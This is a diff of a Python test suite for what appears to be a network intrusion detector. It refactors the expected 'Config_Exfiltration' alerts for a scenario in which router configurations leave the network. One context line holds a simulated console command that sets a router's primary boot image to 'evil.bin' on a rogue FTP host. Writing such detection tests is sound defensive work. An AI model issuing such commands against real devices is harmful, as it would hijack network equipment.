@@ -42,19 +42,24 @@ def bw07_vendors_at_large(wire: Wire) -> None:
     console(wire, 121, "A:sr1# ", (f"bof primary-image ftp://u:p@{ROGUE}/evil.bin", ""))
 
 
+ABROAD = Expect(
+    (
+        Notice("Config_Exfiltration", "10.0.1.111", OUTSIDE, "x.backup"),
+        Notice("Config_Exfiltration", "10.0.1.117", OUTSIDE, "x.cfg"),
+        Notice("Config_Exfiltration", "10.0.1.118", OUTSIDE, "x.cfg"),
+        Notice("Config_Exfiltration", "10.0.1.119", OUTSIDE),
+    )
+)
+"""It speaks where nothing is declared, too."""
+
+
 @scenario(
     "BW18",
     "malicious",
     raises=[("BW18", OTHERS_SEND, ATTACKER, f"10.0.1.{last}") for last in (111, 117, 118, 119)],
+    plain=ABROAD,
     site=HQ,
-    with_site=Expect(
-        (
-            Notice("Config_Exfiltration", "10.0.1.111", OUTSIDE, "x.backup"),
-            Notice("Config_Exfiltration", "10.0.1.117", OUTSIDE, "x.cfg"),
-            Notice("Config_Exfiltration", "10.0.1.118", OUTSIDE, "x.cfg"),
-            Notice("Config_Exfiltration", "10.0.1.119", OUTSIDE),
-        )
-    ),
+    with_site=ABROAD,
 )
 def bw18_vendors_at_large(wire: Wire) -> None:
     """Configurations sent across the border in words of RouterOS, TP-Link, D-Link and PAN-OS."""
